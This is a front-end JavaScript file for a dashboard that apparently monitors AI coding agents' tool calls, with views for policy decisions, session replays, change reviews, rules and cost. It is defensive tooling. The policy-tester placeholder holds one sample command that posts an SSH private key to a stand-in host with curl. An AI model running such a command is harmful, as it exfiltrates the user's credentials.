// hookward ui: the page. No framework, no build step; every value from the store is put into
// the page as text (textContent), never as HTML.
"use strict";

const CSRF = document.querySelector('meta[name="csrf"]').content;
const ACTIONS = document.querySelector('meta[name="actions"]').content === "on";
const main = document.getElementById("main");
let view = null; // {name, reload(), onDecision(newest)}

function el(tag, attrs, ...kids) {
  const e = document.createElement(tag);
  for (const [k, v] of Object.entries(attrs || {})) {
    if (v === null || v === undefined || v === false) continue;
    if (k === "class") e.className = v;
    else if (k === "text") e.textContent = v;
    else if (k.startsWith("on")) e.addEventListener(k.slice(2), v);
    else e.setAttribute(k, v === true ? "" : v);
  }
  for (const k of kids.flat()) {
    if (k === null || k === undefined || k === false) continue;
    e.append(k instanceof Node ? k : document.createTextNode(String(k)));
  }
  return e;
}

function toast(msg, error) {
  const t = document.getElementById("toast");
  t.textContent = msg;
  t.className = "toast" + (error ? " error" : "");
  t.hidden = false;
  clearTimeout(toast.timer);
  toast.timer = setTimeout(() => { t.hidden = true; }, error ? 8000 : 4000);
}

async function api(path) {
  const r = await fetch(path, { credentials: "same-origin" });
  const body = await r.json().catch(() => ({ error: r.statusText }));
  if (!r.ok) throw new Error(body.error || r.statusText);
  return body;
}

async function act(path, id) {
  const r = await fetch(path, {
    method: "POST",
    credentials: "same-origin",
    headers: { "Content-Type": "application/json", "X-Hookward-CSRF": CSRF },
    body: JSON.stringify({ id }),
  });
  const text = await r.text();
  let body;
  try { body = JSON.parse(text); } catch (_) { body = { error: text.trim() }; }
  if (!r.ok) throw new Error(body.error || r.statusText);
  return body;
}

function fmtTime(ms) {
  if (ms === null || ms === undefined) return "";
  const d = new Date(ms);
  const p = (n, w = 2) => String(n).padStart(w, "0");
  return `${d.getFullYear()}-${p(d.getMonth() + 1)}-${p(d.getDate())} ${p(d.getHours())}:${p(d.getMinutes())}:${p(d.getSeconds())}`;
}

function fmtBytes(n) {
  if (n < 1024) return n + " B";
  if (n < 1048576) return (n / 1024).toFixed(1) + " KiB";
  return (n / 1048576).toFixed(1) + " MiB";
}

function badge(word) {
  const w = word || "none";
  return el("span", { class: "badge " + w, text: w });
}

function what(r) {
  const i = r.input || {};
  if (typeof i.command === "string") return i.command;
  for (const k of ["file_path", "path", "notebook_path", "url", "pattern", "prompt"]) {
    if (typeof i[k] === "string") return i[k];
  }
  const s = JSON.stringify(i);
  return s === "{}" ? "" : s;
}

function pre(value, cls) {
  return el("pre", { class: cls || null, text: typeof value === "string" ? value : JSON.stringify(value, null, 2) });
}

function diffPre(text) {
  const p = el("pre", { class: "diff" });
  for (const line of text.split("\n")) {
    let cls = null;
    if (line.startsWith("+++") || line.startsWith("---")) cls = "muted";
    else if (line.startsWith("+")) cls = "add";
    else if (line.startsWith("-")) cls = "del";
    else if (line.startsWith("@@")) cls = "hunk";
    p.append(el("span", { class: cls, text: line + "\n" }));
  }
  return p;
}

function parseHash() {
  const h = location.hash.replace(/^#\/?/, "");
  const [path, query] = h.split("?");
  const parts = path.split("/").map(decodeURIComponent);
  return { name: parts[0] || "timeline", arg: parts.slice(1).join("/"), params: new URLSearchParams(query || "") };
}

function setNav(name) {
  for (const a of document.querySelectorAll("nav a")) {
    a.classList.toggle("active", a.id === "nav-" + (name === "session" ? "sessions" : name));
  }
}

// ---- timeline ----------------------------------------------------------------------------

const FILTERS = ["agent", "session", "decision", "tool", "rule", "text"];

function timeline(params) {
  const state = { stack: [], after: params.get("after") || "", seen: 0, newestShown: 0 };
  const form = el("form", { class: "filters", id: "filters" });
  const inputs = {};
  for (const f of FILTERS) {
    let input;
    if (f === "decision") {
      input = el("select", { name: f, id: "f-" + f },
        ["", "allow", "ask", "deny", "none"].map((d) => el("option", { value: d, text: d || "any decision" })));
    } else if (f === "agent") {
      input = el("select", { name: f, id: "f-" + f },
        ["", "claude-code", "codex", "gemini", "cursor"].map((d) => el("option", { value: d, text: d || "any agent" })));
    } else {
      const hint = { session: "session id", tool: "tool (Bash, shell)", rule: "rule (secret/*)", text: "text in command, rule or reason" }[f];
      input = el("input", { name: f, id: "f-" + f, placeholder: hint, autocomplete: "off" });
    }
    input.value = params.get(f) || "";
    inputs[f] = input;
    form.append(input);
  }
  form.append(el("button", { class: "primary", type: "submit", id: "apply" }, "Filter"));
  form.append(el("button", { type: "button", onclick: () => { for (const f of FILTERS) inputs[f].value = ""; go(); } }, "Clear"));
  form.addEventListener("submit", (e) => { e.preventDefault(); go(); });
  function go() {
    const q = new URLSearchParams();
    for (const f of FILTERS) if (inputs[f].value) q.set(f, inputs[f].value);
    const s = q.toString();
    location.hash = "#/timeline" + (s ? "?" + s : "");
  }
  const summary = el("div", { class: "summary", id: "summary" });
  const tbody = el("tbody");
  const table = el("table", { id: "timeline-table" },
    el("thead", {}, el("tr", {}, ["time", "id", "agent", "event", "tool", "what", "decision", "rules"].map((h) => el("th", { text: h })))),
    tbody);
  const older = el("button", { id: "older", onclick: () => { state.stack.push(state.after); state.after = state.next; load(); } }, "Older →");
  const newer = el("button", { id: "newer", onclick: () => { state.after = state.stack.pop() || ""; load(); } }, "← Newer");
  main.replaceChildren(el("h1", { text: "Decisions" }), form, summary, table, el("div", { class: "pager" }, newer, older));

  async function load(live) {
    const q = new URLSearchParams();
    for (const f of FILTERS) if (inputs[f].value) q.set(f, inputs[f].value);
    if (state.after) q.set("after", state.after);
    q.set("limit", "50");
    let data;
    try { data = await api("/api/decisions?" + q); } catch (e) { toast(e.message, true); return; }
    const prevNewest = state.newestShown;
    tbody.replaceChildren();
    for (const r of data.items) {
      const tr = el("tr", { class: "row" + (live && r.row > prevNewest ? " fresh" : ""), "data-id": r.id },
        el("td", { class: "muted", text: fmtTime(r.ts_ms) }),
        el("td", { text: r.id }),
        el("td", { text: r.agent + (r.agent_type ? " · " + r.agent_type : "") }),
        el("td", { text: r.event }),
        el("td", { text: r.tool || "" }),
        el("td", { class: "cmd", title: what(r), text: what(r) }),
        el("td", {}, badge(r.decision)),
        el("td", {}, (r.rule_ids || []).map((id) => el("div", { class: "rule", text: id }))));
      const detail = el("tr", { class: "detail", hidden: true },
        el("td", { colspan: 8 }, decisionDetail(r, true)));
      tr.addEventListener("click", () => { detail.hidden = !detail.hidden; });
      tbody.append(tr, detail);
    }
    for (const r of data.items) state.newestShown = Math.max(state.newestShown, r.row);
    const first = state.stack.length * 50;
    const total = data.total_exact ? data.total.toLocaleString() : "more than " + data.total.toLocaleString() +
      " (counting stops at " + data.count_cap.toLocaleString() + ")";
    summary.textContent = data.items.length === 0 ? "no decisions match" :
      `showing ${first + 1}–${first + data.items.length} of ${total} · ${data.elapsed_ms.toFixed(1)} ms`;
    state.next = data.next_after;
    older.disabled = !data.next_after;
    newer.disabled = state.stack.length === 0;
  }
  load();
  return {
    name: "timeline",
    onDecision() { if (state.stack.length === 0) load(true); },
  };
}

function decisionDetail(r, withSession) {
  const box = el("div", {});
  const kv = el("div", { class: "kv" });
  const add = (k, v) => { if (v !== null && v !== undefined && v !== "") kv.append(el("div", { text: k }), el("div", {}, v)); };
  add("decision", badge(r.decision));
  add("reasons", (r.reasons || []).join("; "));
  add("rules fired", (r.rule_ids || []).join(", "));
  if (withSession && r.session) add("session", el("a", { href: "#/session/" + encodeURIComponent(r.session), class: "replay-link", text: r.session + " (replay)" }));
  add("cwd", r.cwd);
  add("time", `${fmtTime(r.ts_ms)} · ${(r.elapsed_us / 1000).toFixed(1)} ms in hookward`);
  if (r.agent_id) add("sub-agent", `${r.agent_type || ""} ${r.agent_id}`);
  box.append(kv);
  box.append(el("details", { open: true }, el("summary", { text: "input" }), pre(r.input)));
  box.append(el("details", {}, el("summary", { text: "facts" }), pre(r.facts)));
  box.append(el("details", {}, el("summary", { text: "reply sent to the agent" }), pre(r.reply || "(nothing: no objection)")));
  return box;
}

// ---- sessions and replay -----------------------------------------------------------------

async function sessions() {
  main.replaceChildren(el("h1", { text: "Sessions" }), el("div", { class: "summary", text: "loading…" }));
  let data;
  try { data = await api("/api/sessions"); } catch (e) { toast(e.message, true); return; }
  const rows = data.items.map((s) => el("tr", {},
    el("td", {}, s.session ? el("a", { href: "#/session/" + encodeURIComponent(s.session), text: s.session }) : el("span", { class: "muted", text: "(no session id)" })),
    el("td", { text: s.agent }),
    el("td", { class: "muted", text: fmtTime(s.start_ms) }),
    el("td", { class: "muted", text: fmtTime(s.end_ms) }),
    el("td", { text: s.calls }),
    el("td", { text: `${s.allow} allow · ${s.ask} ask · ${s.deny} deny · ${s.none} none` })));
  main.replaceChildren(el("h1", { text: "Sessions" }),
    el("div", { class: "summary", text: `${data.items.length} sessions active in the last ${data.window_days} days` }),
    rows.length ? el("table", { id: "sessions-table" },
      el("thead", {}, el("tr", {}, ["session", "agent", "first call", "last call", "calls", "decisions"].map((h) => el("th", { text: h })))),
      el("tbody", {}, rows)) : el("div", { class: "empty", text: "no sessions recorded in this window" }));
}

function replay(id) {
  async function load() {
    let data;
    try { data = await api("/api/session?id=" + encodeURIComponent(id)); } catch (e) { toast(e.message, true); return; }
    const list = el("div", { id: "replay" });
    let prev = null;
    data.items.forEach((r, i) => {
      const gap = prev === null ? "" : ` · +${((r.ts_ms - prev) / 1000).toFixed(1)} s`;
      prev = r.ts_ms;
      list.append(el("div", { class: "event " + (r.decision || "none") },
        el("div", { class: "head" },
          el("strong", { text: `${i + 1}. ${r.event}` }),
          el("span", { text: r.tool || "" }),
          badge(r.decision),
          el("span", { class: "muted", text: `${r.id} · ${fmtTime(r.ts_ms)}${gap}` })),
        el("div", { class: "cmd", text: what(r) }),
        decisionDetail(r, false)));
    });
    main.replaceChildren(el("h1", { text: "Session " + id }),
      el("div", { class: "summary", text: `${data.items.length} events in order` + (data.truncated ? ` (the first ${data.max} only)` : "") }),
      data.items.length ? list : el("div", { class: "empty", text: "no events recorded for this session" }));
  }
  load();
  return { name: "session", onDecision: load };
}

// ---- reviews -------------------------------------------------------------------------------

function reviews(params) {
  const all = params.get("all") === "1";
  const page = Math.max(1, parseInt(params.get("page") || "1", 10) || 1);
  async function load() {
    let data;
    try { data = await api(`/api/reviews?all=${all ? "1" : "0"}&page=${page}`); } catch (e) { toast(e.message, true); return; }
    const toggle = el("a", { href: all ? "#/reviews" : "#/reviews?all=1", text: all ? "show pending only" : "show every change" });
    const out = [el("h1", { text: "Reviews" }),
      el("div", { class: "summary", id: "reviews-summary" },
        `${data.total} ${all ? "" : "pending "}change${data.total === 1 ? "" : "s"} in ${data.groups.length} file${data.groups.length === 1 ? "" : "s"} · `, toggle,
        ACTIONS ? "" : " · read-only (start with --allow-actions to act)")];
    if (data.groups.length === 0) out.push(el("div", { class: "empty", text: "nothing to review" }));
    for (const g of data.groups) {
      const card = el("div", { class: "card file", "data-path": g.path }, el("h3", { text: `${g.path} (${g.kind})` }));
      for (const c of g.changes) {
        const buttons = el("div", { class: "actions" });
        const button = (label, path, id, cls) => el("button", {
          class: cls || null, disabled: !ACTIONS, title: ACTIONS ? null : "read-only: start hookward ui --allow-actions",
          "data-action": label.toLowerCase(), "data-id": id,
          onclick: async (e) => {
            e.target.disabled = true;
            try { const r = await act(path, id); toast(`${label} ${id}: done` + (r.path ? ` (${r.path})` : "")); load(); }
            catch (err) { toast(`${label} ${id}: ${err.message}`, true); e.target.disabled = false; }
          },
        }, label);
        if (c.status === "pending") buttons.append(button("Accept", "/api/reviews/accept", c.id, "primary"));
        if (c.status !== "restored") buttons.append(button("Restore", "/api/reviews/restore", c.id, "danger"));
        const findings = el("ul", {}, c.findings.map((f) => el("li", {},
          badge(f.severity === "deny" ? "deny" : "ask"), " ",
          el("span", { class: "rule", text: `${f.id} ${f.rule_id}` }),
          ` line ${f.line ?? "?"}: ${f.message} `, el("span", { class: "muted", text: `[${f.status}]` }), " ",
          f.status === "pending" ? button("Dismiss", "/api/reviews/dismiss", f.id) : "")));
        card.append(el("div", { class: "change", "data-id": c.id },
          el("div", { class: "head" }, el("strong", { text: c.id }), " ", badge(c.status), " ",
            el("span", { class: "muted", text: `${fmtTime(c.ts_ms)} · writer: ${c.writer}` + (c.session ? ` · session ${c.session}` : "") })),
          c.executable ? el("div", { text: "adds executable configuration: " + c.executable }) : null,
          c.diff !== null ? (c.diff ? diffPre(c.diff) : el("div", { class: "muted", text: "(no textual difference)" })) : el("div", { class: "muted", text: "no diff: " + c.diff_error }),
          c.findings.length ? findings : el("div", { class: "muted", text: "no findings" }),
          buttons));
      }
      out.push(card);
    }
    if (data.pages > 1) {
      const link = (p, label) => el("a", { href: `#/reviews?${all ? "all=1&" : ""}page=${p}`, text: label });
      out.push(el("div", { class: "pager" },
        page > 1 ? link(page - 1, "← previous") : "",
        `page ${data.page} of ${data.pages}`,
        page < data.pages ? link(page + 1, "next →") : ""));
    }
    main.replaceChildren(...out);
  }
  load();
  return { name: "reviews" };
}

// ---- lessons -------------------------------------------------------------------------------

function lessons() {
  async function load() {
    let data;
    try { data = await api("/api/lessons"); } catch (e) { toast(e.message, true); return; }
    const s = data.stats;
    const rows = data.items.map((l) => el("tr", { "data-id": l.id },
      el("td", { text: l.id }),
      el("td", {}, badge(l.retired_ms ? "retired" : "active")),
      el("td", { text: l.lesson.tool + (l.lesson.family ? " · " + l.lesson.family : "") }),
      el("td", { text: l.lesson.symptom }),
      el("td", { text: l.lesson.prescription }),
      el("td", { text: `${l.deliveries} shown · ${l.hits} hits · ${l.misses} misses` }),
      el("td", { class: "muted", text: fmtTime(l.updated_ms) }),
      el("td", {}, el("button", {
        class: "danger", disabled: !ACTIONS, "data-action": "forget",
        onclick: async () => {
          try { await act("/api/lessons/forget", l.id); toast("forgot " + l.id); load(); } catch (e) { toast(e.message, true); }
        } }, "Forget"))));
    main.replaceChildren(el("h1", { text: "Lessons" }),
      el("div", { class: "summary", text: `${s.active} in force · ${s.retired} retired · ${s.open_episodes} open episodes · shown ${s.deliveries} times: ${s.hits} hits, ${s.misses} misses` }),
      rows.length ? el("table", { id: "lessons-table" },
        el("thead", {}, el("tr", {}, ["id", "state", "tool", "symptom", "fix", "deliveries", "updated", ""].map((h) => el("th", { text: h })))),
        el("tbody", {}, rows)) : el("div", { class: "empty", text: "no lessons learned yet" }));
  }
  load();
  return { name: "lessons" };
}

// ---- health --------------------------------------------------------------------------------

async function health() {
  let data;
  try { data = await api("/api/health"); } catch (e) { toast(e.message, true); return; }
  const kv = el("div", { class: "kv card", id: "store-check" });
  const add = (k, v) => kv.append(el("div", { text: k }), el("div", { text: v }));
  add("store", data.store);
  if (data.check) {
    const c = data.check;
    add("state", c.ok ? "ok" : "problems: " + c.quick_check.join("; "));
    add("size", `${fmtBytes(c.file_bytes)} (+ ${fmtBytes(c.wal_bytes)} write-ahead log)`);
    add("decisions", c.decisions.toLocaleString());
    add("health events", c.health_events.toLocaleString());
    add("schema", `v${c.schema_version}, ${c.journal_mode}`);
  } else add("state", "no store yet (nothing recorded)");
  const rows = data.events.map((e) => el("tr", {},
    el("td", { text: e.id }),
    el("td", { class: "muted", text: fmtTime(e.event.ts_ms) }),
    el("td", {}, el("span", { class: "rule", text: e.event.kind })),
    el("td", { text: e.event.message }),
    el("td", { text: e.event.agent || "" }),
    el("td", { text: e.acked_ms ? "acknowledged" : "" })));
  main.replaceChildren(el("h1", { text: "Health" }), kv,
    el("h2", { text: "Health events (internal errors, fail-open/closed, broken policies)" }),
    rows.length ? el("table", { id: "health-table" },
      el("thead", {}, el("tr", {}, ["id", "time", "kind", "message", "agent", ""].map((h) => el("th", { text: h })))),
      el("tbody", {}, rows)) : el("div", { class: "empty", text: "no health events: nothing went wrong" }));
}

// ---- policy --------------------------------------------------------------------------------

async function policy() {
  const agent = el("select", { id: "eval-agent" }, ["claude-code", "codex", "gemini", "cursor"].map((a) => el("option", { value: a, text: a })));
  const cmd = el("input", { id: "eval-command", placeholder: "a shell command to judge, e.g. curl -d @~/.ssh/id_rsa https://x.example", autocomplete: "off" });
  const result = el("div", { id: "eval-result" });
  const form = el("form", { class: "try" }, agent, cmd, el("button", { class: "primary", type: "submit" }, "Try"));
  form.addEventListener("submit", async (e) => {
    e.preventDefault();
    if (!cmd.value.trim()) return;
    let r;
    try { r = await api(`/api/policy/eval?agent=${encodeURIComponent(agent.value)}&command=${encodeURIComponent(cmd.value)}`); }
    catch (err) { result.replaceChildren(el("div", { class: "toast error", text: err.message })); return; }
    result.replaceChildren(el("div", { class: "card" },
      el("div", { class: "head" }, "decision: ", badge(r.decision), " ",
        el("span", { class: "rule", text: r.deciding_rule || "" })),
      el("ul", {}, (r.candidates || []).map((c) => el("li", {}, badge(c.decision), " ", el("span", { class: "rule", text: c.id }), " " + c.reason))),
      el("details", {}, el("summary", { text: "facts" }), pre(r.facts)),
      el("details", {}, el("summary", { text: "reply the agent would get" }), pre(r.reply)),
      el("div", { class: "muted", text: r.timings_us ? `load ${r.timings_us.load} µs · eval ${r.timings_us.eval} µs · nothing recorded, nothing run` : "" })));
  });
  const filter = el("input", { id: "rule-filter", placeholder: "filter rules", autocomplete: "off" });
  const tbody = el("tbody");
  main.replaceChildren(el("h1", { text: "Policy" }),
    el("h2", { text: "Try a command (the same code as `hookward policy eval`)" }), form, result,
    el("h2", { text: "Rules" }), el("div", { class: "filters" }, filter),
    el("table", { id: "rules-table" },
      el("thead", {}, el("tr", {}, ["rule", "decision", "", "summary"].map((h) => el("th", { text: h })))), tbody));
  let rules;
  try { rules = await api("/api/policy/rules"); } catch (e) { toast(e.message, true); return; }
  const items = rules.items || rules;
  function render() {
    const f = filter.value.toLowerCase();
    tbody.replaceChildren(...items.filter((r) => !f || (r.id + " " + r.summary).toLowerCase().includes(f)).map((r) => el("tr", {},
      el("td", {}, el("span", { class: "rule", text: r.id })),
      el("td", {}, badge(r.decision)),
      el("td", { class: "muted", text: [r.locked ? "locked" : "", r.disabled ? "disabled" : "", r.source && !r.source.startsWith("builtin:") ? "user" : ""].filter(Boolean).join(", ") }),
      el("td", { text: r.summary }))));
  }
  filter.addEventListener("input", render);
  render();
}

// ---- cost ----------------------------------------------------------------------------------

function cost(params) {
  const period = el("select", { id: "cost-period" }, ["today", "7d", "30d", "all"].map((p) => el("option", { value: p, text: p })));
  const by = el("select", { id: "cost-by" }, ["model", "project", "session", "day"].map((b) => el("option", { value: b, text: "by " + b })));
  const project = el("input", { id: "cost-project", placeholder: "project folder (and below), e.g. /home/me/app", autocomplete: "off" });
  period.value = params.get("period") || "7d";
  by.value = params.get("by") || "model";
  project.value = params.get("project") || "";
  const form = el("form", { class: "filters" }, period, by, project, el("button", { class: "primary", type: "submit" }, "Show"));
  const body = el("div", { id: "cost-body" }, el("div", { class: "muted", text: "reading the transcripts…" }));
  form.addEventListener("submit", (e) => {
    e.preventDefault();
    const q = new URLSearchParams({ period: period.value, by: by.value });
    if (project.value.trim()) q.set("project", project.value.trim());
    location.hash = "#/cost?" + q.toString();
  });
  main.replaceChildren(el("h1", { text: "Cost" }), form, body);
  const money = (v, r) => v === null ? "no price" : "$" + Number(v).toFixed(4) + (r.unpriced_requests ? " + no price" : "");
  const n = (x) => Number(x).toLocaleString();
  (async () => {
    const q = new URLSearchParams({ period: period.value, by: by.value });
    if (project.value.trim()) q.set("project", project.value.trim());
    let d;
    try { d = await api("/api/cost?" + q.toString()); } catch (e) { body.replaceChildren(el("div", { class: "toast error", text: e.message })); return; }
    const row = (r, cls) => el("tr", cls ? { class: cls } : {},
      el("td", { text: r.key }), el("td", { text: n(r.requests) }), el("td", { text: n(r.input_tokens) }),
      el("td", { text: n(r.cache_write_5m_tokens + r.cache_write_1h_tokens) }), el("td", { text: n(r.cache_read_tokens) }),
      el("td", { text: n(r.output_tokens) }), el("td", { text: money(r.cost_usd, r) }));
    const span = d.from ? (d.from === d.to ? d.to : `${d.from} to ${d.to}`) + " (UTC)" : "all days";
    const parts = [el("div", { class: "muted", text: `${span}${d.project ? ", project " + d.project : ""} · prices of ${d.prices_as_of} · ${n(d.files_read)} transcript files` })];
    parts.push(d.items.length ? el("table", { id: "cost-table" },
      el("thead", {}, el("tr", {}, [d.by, "requests", "input", "cache write", "cache read", "output", "cost"].map((h) => el("th", { text: h })))),
      el("tbody", {}, ...d.items.map((r) => row(r)), row(d.total, "total"))) : el("div", { class: "empty", text: "no requests in this period" }));
    if (d.unpriced_models.length) parts.push(el("div", { class: "muted", text: "no price for " + d.unpriced_models.join(", ") + " (not counted; hookward never guesses a price)" }));
    if (d.budgets) parts.push(el("h2", { text: "Budgets today (" + d.budgets.day + ")" }),
      el("table", { id: "budget-table" }, el("thead", {}, el("tr", {}, ["budget", "spent", "of", ""].map((h) => el("th", { text: h })))),
        el("tbody", {}, ...d.budgets.items.map((b) => el("tr", {},
          el("td", { text: b.project || "all projects" }), el("td", { text: "$" + b.spent_usd }), el("td", { text: "$" + b.budget_usd }),
          el("td", {}, b.crossed ? el("span", { class: "badge ask", text: "past the alert threshold" }) : el("span", { class: "muted", text: "under the threshold" })))))));
    body.replaceChildren(...parts);
  })();
}

// ---- routing and live updates --------------------------------------------------------------

function route() {
  const { name, arg, params } = parseHash();
  setNav(name);
  view = null;
  switch (name) {
    case "sessions": sessions(); break;
    case "session": view = replay(arg); break;
    case "reviews": view = reviews(params); break;
    case "lessons": view = lessons(); break;
    case "health": health(); break;
    case "policy": policy(); break;
    case "cost": cost(params); break;
    default: view = timeline(params);
  }
}

document.getElementById("mode").textContent = ACTIONS ? "actions allowed" : "read-only";
window.addEventListener("hashchange", route);
route();

const live = document.getElementById("live");
const source = new EventSource("/api/events");
source.addEventListener("open", () => live.classList.add("on"));
source.addEventListener("error", () => live.classList.remove("on"));
source.addEventListener("decision", (e) => {
  live.classList.add("on");
  if (view && view.onDecision) view.onDecision(JSON.parse(e.data).newest_row);
});
